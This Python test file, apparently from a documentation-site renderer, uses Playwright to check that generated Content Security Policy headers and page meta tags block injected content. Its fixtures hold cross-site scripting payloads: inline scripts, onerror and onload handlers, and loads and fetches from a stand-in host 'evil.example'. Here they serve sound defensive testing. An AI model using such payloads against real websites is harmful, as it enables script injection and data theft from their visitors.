"""The security policy: each page states it, a server is given it as headers, and a browser enforces it."""

import re
from collections.abc import Mapping
from fnmatch import fnmatch
from pathlib import Path

import pytest
from playwright.sync_api import expect
from projects import Project
from web import HEARD_REFUSED, served

from rulewright.render.content_security_policy import CSP, DRAWING, policy_of_page, server_policy
from rulewright.render.http_headers import netlify_headers


def rules(text: str) -> dict[str, dict[str, str]]:
    """The rules of a `_headers` file: the headers by the paths that they are for."""
    found: dict[str, dict[str, str]] = {}
    for line in text.splitlines():
        if line.startswith(" "):
            name, _, value = line.strip().partition(": ")
            found[next(reversed(found))][name] = value
        else:
            found[line] = {}
    return found


@pytest.fixture(scope="module")
def told(pages):
    return rules(netlify_headers(server_policy(page.read_bytes() for page in pages.rglob("*.html"))))


@pytest.fixture(scope="module")
def address(pages, told):
    def more(path: str) -> Mapping[str, str]:
        merged: dict[str, str] = {}
        for pattern, headers in told.items():
            if fnmatch(path, pattern):  # several policies are one with all of them
                merged |= {n: f"{merged[n]}, {v}" if n in merged else v for n, v in headers.items()}
        return merged

    with served(pages, more) as root:
        yield root


def parts(text: str) -> dict[str, set[str]]:
    found = (part.strip().split() for part in text.split(";"))
    return {name: set(values) for name, *values in found}


def test_the_policy_that_is_sent_is_that_of_the_pages_and_what_only_a_server_says(pages, told):
    header = parts(told["/*"][CSP])
    scripts = header.pop("script-src")
    assert header.pop("frame-ancestors") == {"'none'"}
    used = {"'self'"}
    for file in pages.rglob("*.html"):
        own = parts(policy_of_page(file.read_bytes()))
        assert own.get("script-src", set()) <= scripts, file
        used |= own.pop("script-src", set())
        assert own == header or own == parts("default-src 'none'; img-src data:"), file
    assert used == scripts
    assert not [one for one in scripts if "unsafe" in one or "*" in one or ":" in one]


def test_what_a_page_lacks_is_refused_by_what_is_sent(browser, pages, told, tmp_path):
    """Pages that state nothing themselves, and a drawing."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'><script>ran = 1</script></svg>"
    (tmp_path / "a.svg").write_text(svg)
    (tmp_path / "a.html").write_text(
        "<title></title><script>ran = 1</script><p onclick=x()><iframe src=a.svg></iframe>"
        "<img src=https://evil.example/x onerror='ran = 1'>"
    )
    headers = {".html": told["/*"], ".svg": {**told["/*"], **told["/*.svg"]}}
    with served(tmp_path, lambda path: headers.get(Path(path).suffix, {})) as root:
        context = browser.new_context()
        asked: list[str] = []
        context.on("requestfinished", lambda request: asked.append(request.url))
        page = context.new_page()
        for file in ("a.html", "a.svg"):
            page.goto(f"{root}/{file}")
            assert page.evaluate("typeof ran") == "undefined"
        assert not [url for url in asked if "evil" in url]
        page.goto("about:blank")
        page.set_content(f"<iframe src='{root}/a.html'></iframe>")
        page.wait_for_timeout(200)
        assert not any("<script" in one.content() for one in page.frames if root in one.url)
        context.close()


def test_the_build_writes_them_where_asked(tmp_path, monkeypatch):
    project = Project(tmp_path)
    monkeypatch.setattr("rulewright.app.build_pipeline.build", project.line)
    project.build()
    assert not (project.site / "_headers").exists()
    settings = project.folder / "mkdocs.yml"
    settings.write_text(
        re.sub(r"(?m)^  - rulewright$", "  - rulewright: {headers: true}", settings.read_text())
    )
    project.build()
    found = rules((project.site / "_headers").read_text())
    assert found["/*"][CSP] == server_policy(page.read_bytes() for page in project.site.rglob("*.html"))
    assert found["/*.svg"][CSP] == DRAWING


STATED = re.compile(r"""<meta http-equiv="Content-Security-Policy" content="([^"]*)">""")
READ = [
    "", "ocs/", "ocs/4.3/", "ocs/4.3/12-supply/#12.5", "ocs/4.3/sequence/", "ocs/4.3/play/",
    "ocs/3.0/tables/",
    "ocs/4.3/aids/", "ocs/4.3/glossary/", "ocs/4.3/faq/", "no-such-page/", "checks/",
    "ocs/#10.0i", "ocs/4.3/#12.5c", "rules/ocs-4.3/12-0-supply/#128-attrition--out-of-supply",
]  # fmt: skip


@pytest.fixture
def page(browser, address):
    """A page that collects what the browser refuses."""
    context = browser.new_context(base_url=f"{address}/")
    context.add_init_script(HEARD_REFUSED)
    yield context.new_page()
    context.close()


def test_every_page_states_its_policy_before_anything_that_it_holds_for(pages):
    for file in pages.rglob("*.html"):
        html = file.read_text()
        stated = STATED.search(html)
        assert stated, file
        loads = re.search(r"<(?:script|style|link|img|body)\b", html)
        assert not loads or stated.start() < loads.start(), file
        assert "script-src 'self' 'unsafe" not in stated[1]


def test_the_pages_keep_to_their_policy_and_to_that_of_the_server(page):
    """Reading, jumping, searching, a preview, a palette: the browser refuses nothing."""
    said: list[str] = []
    page.on("console", lambda heard: said.append(heard.text) if "ontent Security" in heard.text else None)
    for path in READ:
        page.goto(path)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.refused") == [], path
    page.goto("ocs/4.3/12-supply/")
    page.keyboard.press("/")
    page.locator("#jump input").fill("14.7d")
    expect(page.locator("#jump-0")).to_be_visible()
    page.locator("#jump input").fill("replenish")
    expect(page.locator("#jump-list q").first).to_be_visible()
    page.goto("ocs/4.3/2-sequence-of-play/")
    page.locator(".rule a.ref >> visible=true").first.hover()
    expect(page.locator(".rw-card")).to_be_visible()
    assert page.evaluate("window.refused") == []
    assert not said
    page.goto("ocs/4.3/play/")
    wider = "navigator.serviceWorker.register('/assets/rulewright.js', { scope: '/' }).then(() => 1, () => 0)"
    assert page.evaluate(wider) == 0


INJECTED = """
  window.ran = [];
  const put = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
  put("script", {textContent: "window.ran.push('inline')"});
  document.body.insertAdjacentHTML("beforeend", "<img src=x-not-there onerror=window.ran.push('handler')>");
  put("img", {src: "https://evil.example/p.png"});
  put("script", {src: "https://evil.example/s.js"});
  put("link", {rel: "stylesheet", href: "https://evil.example/s.css"});
  put("iframe", {src: "https://evil.example/"});
  put("object", {data: "/index.html"});
  put("base", {href: "https://evil.example/"});
  fetch("https://evil.example/").catch(() => {});
  location.assign("javascript:window.ran.push('address')");
"""


REFUSED = ["script-src-elem", "script-src-attr", "img-src", "style-src-elem", "frame-src", "connect-src"]


@pytest.mark.parametrize("path", ["", "ocs/4.3/play/", "ocs/4.3/faq/", "404.html"])
def test_what_is_put_into_a_page_does_not_run_and_asks_nobody(page, path):
    reached: list[str] = []
    page.on("requestfinished", lambda request: reached.append(request.url))
    page.route("https://evil.example/**", lambda route: route.fulfill(body="there"))
    page.goto(path)
    page.wait_for_load_state("networkidle")
    page.evaluate(INJECTED)
    page.wait_for_function(
        "all => all.every((one) => window.refused.some((said) => said.split(' ')[0] === one))", arg=REFUSED
    )
    assert page.evaluate("window.ran") == []
    assert not [url for url in reached if "evil.example" in url]
    assert page.evaluate("document.baseURI").startswith("http://127.0.0.1")
